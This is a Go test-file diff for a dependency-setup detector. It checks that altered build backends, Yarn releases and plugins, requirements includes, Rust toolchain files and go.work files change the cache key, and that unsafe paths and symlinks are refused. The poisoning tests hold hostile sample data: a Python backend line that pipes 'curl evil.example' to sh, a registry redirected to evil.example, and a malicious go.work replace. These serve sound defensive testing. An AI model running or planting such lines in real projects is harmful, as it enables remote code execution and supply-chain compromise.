@@ -82,6 +82,23 @@ func TestDetect(t *testing.T) {
 			Plan{Ecosystems: []Ecosystem{Yarn}, Steps: []string{"yarn install --immutable --mode=skip-build"}, Manifests: []string{".yarnrc.yml", "package.json", "yarn.lock"}},
 		},
 		{
+			// Yarn runs the release and plugins its configuration names,
+			// wherever they are.
+			"yarn 2 and later: the release and plugins the configuration names",
+			tree("package.json", "{}", "yarn.lock", yarnBerryLock, ".env.yarn", "YARN_ENABLE_TELEMETRY=0\n",
+				".yarnrc.yml", "yarnPath: tools/yarn-4.5.0.cjs\nplugins:\n  - tools/plugin-a.cjs\n  - path: ./tools/plugin-b.cjs\n    spec: \"@yarnpkg/plugin-b\"\n",
+				"tools/yarn-4.5.0.cjs", "", "tools/plugin-a.cjs", "", "tools/plugin-b.cjs", "", "tools/other.js", ""), nil,
+			Plan{Ecosystems: []Ecosystem{Yarn}, Steps: []string{"yarn install --immutable --mode=skip-build"},
+				Manifests:     []string{".env.yarn", ".yarnrc.yml", "package.json", "tools/plugin-a.cjs", "tools/plugin-b.cjs", "tools/yarn-4.5.0.cjs", "yarn.lock"},
+				ManifestPaths: []string{"tools/plugin-a.cjs", "tools/plugin-b.cjs", "tools/yarn-4.5.0.cjs"}},
+		},
+		{
+			"yarn 1: the release yarn-path names",
+			tree("package.json", "{}", "yarn.lock", yarnClassic, ".yarnrc", "# yarn-path is read\nyarn-path \"./scripts/yarn-1.22.19.js\"\n", "scripts/yarn-1.22.19.js", ""), nil,
+			Plan{Ecosystems: []Ecosystem{Yarn}, Steps: []string{"yarn install --frozen-lockfile --ignore-scripts"},
+				Manifests: []string{".yarnrc", "package.json", "scripts/yarn-1.22.19.js", "yarn.lock"}, ManifestPaths: []string{"scripts/yarn-1.22.19.js"}},
+		},
+		{
 			"yarn lockfile starting with its metadata", tree("yarn.lock", "__metadata:\n  version: 8\n"), nil,
 			Plan{Ecosystems: []Ecosystem{Yarn}, Steps: []string{"yarn install --immutable --mode=skip-build"}, Manifests: []string{"yarn.lock"}},
 		},
@@ -125,12 +142,58 @@ func TestDetect(t *testing.T) {
 			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -r requirements_test.txt"}, Manifests: []string{"pyproject.toml", "requirements_test.txt", "uv.lock"}},
 		},
 		{
+			// pip reads the files -r and -c name, from the naming file's
+			// directory: they decide what is installed.
+			"python requirements including others",
+			tree("requirements.txt", "-r requirements/base.txt\n-c constraints.txt  # pins\nrequests\n-r https://example.com/r.txt\n--requ \\\n  later.txt\n",
+				"requirements/base.txt", "--requirement=../common/pins.txt\n-cpins.txt\n# -r ignored.txt\n",
+				"common/pins.txt", "flask\n", "constraints.txt", "", "requirements/pins.txt", "", "ignored.txt", ""), nil,
+			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -r requirements.txt"},
+				Manifests:     []string{"common/pins.txt", "constraints.txt", "requirements.txt", "requirements/base.txt", "requirements/pins.txt"},
+				ManifestPaths: []string{"common/pins.txt", "constraints.txt", "later.txt", "requirements/base.txt", "requirements/pins.txt"}},
+		},
+		{
+			// pip imports the build backend from backend-path: every file
+			// there is code setup runs.
+			"python build backend in the tree",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\", \"tools/./build/\"]\n",
+				"_build/backend.py", "", "_build/pkg/__init__.py", "", "_build/__pycache__/backend.cpython-313.pyc", "",
+				"tools/build/x.py", "", "tools/other.py", "", "src/app.py", ""), nil,
+			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -e ."},
+				Manifests:     []string{"_build/__pycache__/backend.cpython-313.pyc", "_build/backend.py", "_build/pkg/__init__.py", "pyproject.toml", "tools/build/x.py"},
+				ManifestPaths: []string{"_build", "tools/build"}},
+		},
+		{
+			"python build backend: a dotted key, a directory not there yet, a zip archive",
+			tree("pyproject.toml", "build-system.requires = []\n\"build-system\".'backend-path' = ['later', 'backend.zip']\n", "backend.zip", "PK"), nil,
+			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -e ."},
+				Manifests: []string{"backend.zip", "pyproject.toml"}, ManifestPaths: []string{"backend.zip", "later"}},
+		},
+		{
+			"python build backend at the root: every file, git's own aside",
+			tree("pyproject.toml", "[build-system]\nbackend-path = [\"\"]\n", "backend.py", "", "src/app.py", "", ".git/HEAD", "ref: refs/heads/main\n"), nil,
+			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -e ."},
+				Manifests: []string{"backend.py", "pyproject.toml", "src/app.py"}, ManifestPaths: []string{"."}},
+		},
+		{
+			// Keys are case-sensitive, and pip reads this one only in
+			// build-system.
+			"python: no backend-path pip would read",
+			tree("pyproject.toml", "[build-system]\nBackend-Path = [\"a\"]\n[tool.x]\nbackend-path = [\"b\"]\n", "a/x.py", "", "b/y.py", ""), nil,
+			Plan{Ecosystems: []Ecosystem{Python}, Steps: []string{pyVenv, pip + " -e ."}, Manifests: []string{"pyproject.toml"}},
+		},
+		{
 			"python lockfiles of other tools alone", tree("Pipfile", "", "Pipfile.lock", "", "poetry.lock", ""), nil,
 			Plan{Manifests: []string{"Pipfile", "Pipfile.lock", "poetry.lock"}},
 		},
 		{
 			"cargo", tree("Cargo.toml", "[package]\n", "Cargo.lock", "version = 4\n", ".cargo/config.toml", "[net]\n", ".cargo/other.toml", ""), nil,
 			Plan{Ecosystems: []Ecosystem{Cargo}, Steps: []string{"cargo fetch"}, Manifests: []string{".cargo/config.toml", "Cargo.lock", "Cargo.toml"}},
+		},
+		{
+			"cargo with a rustup toolchain file",
+			tree("Cargo.toml", "[package]\n", "rust-toolchain.toml", "[toolchain]\nchannel = \"1.83.0\"\n", "rust-toolchain", "stable\n"), nil,
+			Plan{Ecosystems: []Ecosystem{Cargo}, Steps: []string{"cargo fetch"}, Manifests: []string{"Cargo.toml", "rust-toolchain", "rust-toolchain.toml"}},
 		},
 		{
 			"cargo lockfile alone", tree("Cargo.lock", ""), nil,
@@ -170,6 +233,17 @@ func TestDetect(t *testing.T) {
 					"(cd tools && yarn install --immutable --mode=skip-build)", "(cd web && npm ci --ignore-scripts)"},
 				Manifests: []string{"go.mod", "services/api/go.mod", "services/api/go.sum", "tools/yarn.lock",
 					"web/.npmrc", "web/package-lock.json", "web/package.json"},
+			},
+		},
+		{
+			"monorepo: a project's workspace file and the Yarn release it runs",
+			tree("svc/go.mod", "module svc\n", "svc/go.work", "go 1.26\nuse .\n", "web/yarn.lock", yarnBerryLock,
+				"web/.yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.5.0.cjs\n", "web/.yarn/releases/yarn-4.5.0.cjs", ""), nil,
+			Plan{
+				Ecosystems: []Ecosystem{Go, Yarn}, Projects: []Project{{"svc", Go}, {"web", Yarn}},
+				Steps:         []string{"(cd svc && go mod download)", "(cd web && yarn install --immutable --mode=skip-build)"},
+				Manifests:     []string{"svc/go.mod", "svc/go.work", "web/.yarn/releases/yarn-4.5.0.cjs", "web/.yarnrc.yml", "web/yarn.lock"},
+				ManifestPaths: []string{"web/.yarn/releases/yarn-4.5.0.cjs"},
 			},
 		},
 		{
@@ -287,6 +361,118 @@ func TestKey(t *testing.T) {
 	}
 }
 
+// TestPoisoning: for each way a tree can change the code or the
+// configuration a setup runs while its lockfiles stay the same, the two
+// trees get different keys (so the changed one never shares the other's
+// cache), and the changed file counts as a changed manifest (so the
+// request shows it, the setup runs on it in a cache of its own, and no
+// auto_approve rule answers it), whichever tree's plan is asked.
+func TestPoisoning(t *testing.T) {
+	const deleted = "<deleted>"
+	tests := []struct {
+		name    string
+		base    fstest.MapFS
+		changed string // path
+		content string // or deleted
+	}{
+		{
+			"the build backend pip imports from backend-path",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n", "_build/backend.py", "def build_wheel(*a): pass\n", "requirements.txt", "requests==2.32.3\n"),
+			"_build/backend.py", "import os; os.system('curl evil.example | sh')\n",
+		},
+		{
+			"a module the build backend imports, added",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n", "_build/backend.py", "import helper\n"),
+			"_build/helper.py", "import os\n",
+		},
+		{
+			"a module of the build backend, deleted",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n", "_build/backend.py", "import helper\n", "_build/helper.py", "pass\n"),
+			"_build/helper.py", deleted,
+		},
+		{
+			"the build backend, with the repository's root as backend-path",
+			tree("pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n", "backend.py", "pass\n"),
+			"backend.py", "import os\n",
+		},
+		{
+			"a requirements file the root's includes",
+			tree("requirements.txt", "-r requirements/base.txt\n", "requirements/base.txt", "requests==2.32.3\n"),
+			"requirements/base.txt", "requests==2.32.3\nevil==1.0\n",
+		},
+		{
+			"a constraints file, added where the root's names it",
+			tree("requirements.txt", "requests\n-c constraints/pins.txt\n"),
+			"constraints/pins.txt", "requests==0.1\n",
+		},
+		{
+			"the Yarn release yarnPath names outside .yarn",
+			tree("package.json", "{}", "yarn.lock", yarnBerryLock, ".yarnrc.yml", "yarnPath: tools/yarn.cjs\n", "tools/yarn.cjs", "yarn()\n"),
+			"tools/yarn.cjs", "evil()\n",
+		},
+		{
+			"a Yarn plugin by path",
+			tree("package.json", "{}", "yarn.lock", yarnBerryLock, ".yarnrc.yml", "plugins:\n  - path: tools/plugin.cjs\n", "tools/plugin.cjs", "plugin()\n"),
+			"tools/plugin.cjs", "evil()\n",
+		},
+		{
+			"the Yarn 1 release yarn-path names",
+			tree("package.json", "{}", "yarn.lock", yarnClassic, ".yarnrc", "yarn-path scripts/yarn.js\n", "scripts/yarn.js", "yarn()\n"),
+			"scripts/yarn.js", "evil()\n",
+		},
+		{
+			"Yarn's environment file",
+			tree("package.json", "{}", "yarn.lock", yarnBerryLock),
+			".env.yarn", "YARN_NPM_REGISTRY_SERVER=https://evil.example\n",
+		},
+		{
+			"the Rust toolchain cargo runs",
+			tree("Cargo.toml", "[package]\n", "Cargo.lock", "version = 4\n", "rust-toolchain.toml", "[toolchain]\nchannel = \"1.83.0\"\n"),
+			"rust-toolchain.toml", "[toolchain]\nchannel = \"nightly-2020-01-01\"\n",
+		},
+		{
+			"the go.work of a module below the root",
+			tree("svc/go.mod", "module svc\n"),
+			"svc/go.work", "go 1.26\nuse .\nreplace example.com/a => example.com/evil v1.0.0\n",
+		},
+		{
+			"the Yarn release",
+			tree("package.json", "{}", "yarn.lock", yarnBerryLock, ".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.5.0.cjs\n", ".yarn/releases/yarn-4.5.0.cjs", "yarn()\n"),
+			".yarn/releases/yarn-4.5.0.cjs", "evil()\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			poisoned := maps.Clone(tt.base)
+			if tt.content == deleted {
+				delete(poisoned, tt.changed)
+			} else {
+				poisoned[tt.changed] = &fstest.MapFile{Data: []byte(tt.content)}
+			}
+			before, err := Detect(tt.base, "img", nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			after, err := Detect(poisoned, "img", nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if before.Key == "" || before.Key == after.Key {
+				t.Errorf("key %q before and %q after: want two keys", before.Key, after.Key)
+			}
+			shown, err := ManifestsOf(poisoned)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for name, p := range map[string]Plan{"the base's plan": before, "the changed tree's plan": after, "ManifestsOf the changed tree": shown} {
+				if !p.ManifestsChanged([]string{tt.changed}) {
+					t.Errorf("%s: ManifestsChanged(%q) = false, want true", name, tt.changed)
+				}
+			}
+		})
+	}
+}
+
 func TestManifestsChanged(t *testing.T) {
 	p, err := Detect(tree("go.mod", "module x\n", "go.sum", ""), "golang:1.26", nil)
 	if err != nil {
@@ -311,6 +497,10 @@ func TestManifestsChanged(t *testing.T) {
 		{"a Yarn plugin", []string{".yarn/plugins/@yarnpkg/plugin-x.cjs"}, true},
 		{"a Yarn patch", []string{".yarn/patches/x.patch"}, true},
 		{"pip's configuration", []string{"pip.conf"}, true},
+		{"the Rust toolchain", []string{"rust-toolchain.toml"}, true},
+		{"the legacy Rust toolchain file", []string{"rust-toolchain"}, true},
+		{"Yarn's environment file", []string{".env.yarn"}, true},
+		{"a workspace file below the root", []string{"svc/go.work.sum"}, true},
 		{"Yarn's cache", []string{".yarn/cache/a.zip", ".yarn/install-state.gz"}, false},
 		{"a module below the root", []string{"tools/go.mod"}, true},
 		{"a lockfile below the root", []string{"web/package-lock.json"}, true},
@@ -398,6 +588,115 @@ func TestDetectErrors(t *testing.T) {
 				t.Errorf("Detect = %+v, %v; want an error starting %q wrapping %v", p, err, tt.want, errDisk)
 			}
 		})
+	}
+}
+
+// chain is n requirements files, each including the next.
+func chain(n int) fstest.MapFS {
+	m := tree("requirements.txt", "-r r1.txt\n")
+	for i := 1; i < n; i++ {
+		m[fmt.Sprintf("r%d.txt", i)] = &fstest.MapFile{Data: []byte(fmt.Sprintf("-r r%d.txt\n", i+1))}
+	}
+	return m
+}
+
+// TestDetectFailsClosed: a backend-path that cannot be read, or code a
+// step loads that the plan cannot cover (a link whose target the tool
+// would load), is an error, as an unreadable manifest is, never a plan
+// without the code setup would run.
+func TestDetectFailsClosed(t *testing.T) {
+	pyproject := func(build string) string { return "[project]\nname = \"x\"\n\n[build-system]\n" + build }
+	many := tree("pyproject.toml", pyproject("backend-path = [\"b\"]\n"))
+	for i := range maxExecutedFiles + 1 {
+		many[fmt.Sprintf("b/m%d.py", i)] = &fstest.MapFile{}
+	}
+	tests := []struct {
+		name  string
+		files fstest.MapFS
+		want  string
+	}{
+		{"not TOML", tree("pyproject.toml", "[build-system\nbackend-path = 1\n"), "read pyproject.toml: toml: line 2: expected"},
+		{"a string, not a list", tree("pyproject.toml", pyproject("backend-path = \"_build\"\n")), "read pyproject.toml, line 5: build-system.backend-path: is not a list of paths"},
+		{"not a path", tree("pyproject.toml", pyproject("backend-path = [1]\n")), "build-system.backend-path: 1 is not a path"},
+		{"absolute", tree("pyproject.toml", pyproject("backend-path = [\"/usr/lib/python3\"]\n")), `"/usr/lib/python3" is absolute`},
+		{"outside", tree("pyproject.toml", pyproject("backend-path = [\"a/../../x\"]\n")), `"a/../../x" is outside the repository`},
+		{"the parent", tree("pyproject.toml", pyproject("backend-path = [\"..\"]\n")), `".." is outside the repository`},
+		{"a backslash", tree("pyproject.toml", pyproject("backend-path = ['a\\b']\n")), "has a backslash"},
+		{"build-system not a table", tree("pyproject.toml", "build-system = 5\n"), "read pyproject.toml, line 1: build-system is not a table"},
+		{"too many files", many, "list pyproject.toml's backend-path b: more than 200 files"},
+		{"too long", tree("pyproject.toml", "# "+strings.Repeat("x", maxPyproject)+"\n"), "read pyproject.toml: more than 1048576 bytes"},
+		{
+			"a link in the directory",
+			fstest.MapFS{"pyproject.toml": {Data: []byte(pyproject("backend-path = [\"b\"]\n"))}, "b/backend.py": {Data: []byte("../src/x.py"), Mode: fs.ModeSymlink}},
+			"b/backend.py is a symbolic link",
+		},
+		{
+			"a link on the way",
+			fstest.MapFS{"pyproject.toml": {Data: []byte(pyproject("backend-path = [\"a/b\"]\n"))}, "a": {Data: []byte("/usr/lib"), Mode: fs.ModeSymlink}},
+			"a is a symbolic link",
+		},
+		{"requirements: an absolute path", tree("requirements.txt", "-r /etc/passwd\n"), "read requirements.txt, line 1: /etc/passwd is outside the repository"},
+		{"requirements: out of the tree", tree("requirements.txt", "-r ok.txt\n", "ok.txt", "\n\n-c ../../x.txt\n"), "read ok.txt, line 3: ../../x.txt is outside the repository"},
+		{"requirements: a variable", tree("requirements.txt", "-r ${REQS}/x.txt\n"), "holds a variable"},
+		{"requirements: quotes", tree("requirements.txt", "-r 'a b.txt'\n"), "line 1: quotes or backslashes"},
+		{"requirements: a file: URL", tree("requirements.txt", "-r file:x.txt\n"), "names a file: URL"},
+		{"requirements: no file", tree("requirements.txt", "-c\n"), "line 1: -c names no file"},
+		{
+			"requirements: a link",
+			fstest.MapFS{"requirements.txt": {Data: []byte("-r reqs/x.txt\n")}, "reqs/x.txt": {Data: []byte("../../etc/x"), Mode: fs.ModeSymlink}},
+			"read requirements.txt, line 1: reqs/x.txt is a symbolic link",
+		},
+		{"requirements: too many", chain(maxRequirementFiles + 1), "more than 50 requirements files"},
+		{"yarnPath absolute", tree("yarn.lock", yarnBerryLock, ".yarnrc.yml", "yarnPath: /usr/lib/yarn.cjs\n"), "Yarn runs /usr/lib/yarn.cjs, which is outside the repository"},
+		{"yarnPath out of the tree", tree("web/yarn.lock", yarnBerryLock, "web/.yarnrc.yml", "yarnPath: ../../yarn.cjs\n"), "read web/.yarnrc*: Yarn runs ../../yarn.cjs, which is outside"},
+		{"yarnPath not a path", tree("yarn.lock", yarnBerryLock, ".yarnrc.yml", "yarnPath: [a]\n"), "read .yarnrc.yml: yarnPath is not a path"},
+		{"a plugin not a path", tree("yarn.lock", yarnBerryLock, ".yarnrc.yml", "plugins:\n  - path: 5\n"), "a plugin's path is not a path"},
+		{".yarnrc.yml not YAML", tree("yarn.lock", yarnBerryLock, ".yarnrc.yml", "yarnPath: a\nyarnPath: b\n"), "read .yarnrc.yml: yaml:"},
+		{"yarn-path not read", tree("yarn.lock", yarnClassic, ".yarnrc", "yarn-path 'a b.js'\n"), "read .yarnrc, line 1: a yarn-path this does not read"},
+		{
+			"yarnPath a link",
+			fstest.MapFS{"yarn.lock": {Data: []byte(yarnBerryLock)}, ".yarnrc.yml": {Data: []byte("yarnPath: tools/yarn.cjs\n")}, "tools/yarn.cjs": {Data: []byte("../x.cjs"), Mode: fs.ModeSymlink}},
+			"list tools/yarn.cjs, which Yarn runs: tools/yarn.cjs is a symbolic link",
+		},
+		{"a toolchain by its directory", tree("Cargo.toml", "", "rust-toolchain.toml", "[toolchain]\npath = \"tools/rust\"\n"), "read rust-toolchain.toml, line 2: toolchain.path names a toolchain by its directory"},
+		{"a legacy toolchain file by its directory", tree("Cargo.toml", "", "rust-toolchain", "[toolchain]\npath = \"/opt/rust\"\n"), "read rust-toolchain, line 2: toolchain.path"},
+		{"a toolchain file that is not TOML", tree("Cargo.toml", "", "rust-toolchain.toml", "[toolchain\n"), "read rust-toolchain.toml: toml:"},
+
+		{
+			"a link among Yarn's releases",
+			fstest.MapFS{"yarn.lock": {Data: []byte(yarnBerryLock)}, ".yarn/releases/yarn.cjs": {Data: []byte("../../tools/yarn.cjs"), Mode: fs.ModeSymlink}},
+			"list .yarn/releases/: .yarn/releases/yarn.cjs is a symbolic link",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p, err := Detect(tt.files, "img", nil)
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Detect = %+v, %v; want an error with %q", p, err, tt.want)
+			}
+			if _, err := ManifestsOf(tt.files); err == nil {
+				t.Error("ManifestsOf: no error")
+			}
+		})
+	}
+}
+
+// TestDetectBackendPathSymlinkOnDisk: on disk, a backend-path directory
+// that is a link (out of the tree here) is refused, not followed.
+func TestDetectBackendPathSymlinkOnDisk(t *testing.T) {
+	outside := t.TempDir()
+	if err := os.WriteFile(filepath.Join(outside, "backend.py"), []byte("x"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "pyproject.toml"), []byte("[build-system]\nbackend-path = [\"_build\"]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(dir, "_build")); err != nil {
+		t.Skipf("symlinks: %v", err)
+	}
+	if p, err := Detect(os.DirFS(dir), "img", nil); err == nil || !strings.Contains(err.Error(), "_build is a symbolic link") {
+		t.Errorf("Detect = %+v, %v; want the link refused", p, err)
 	}
 }
 
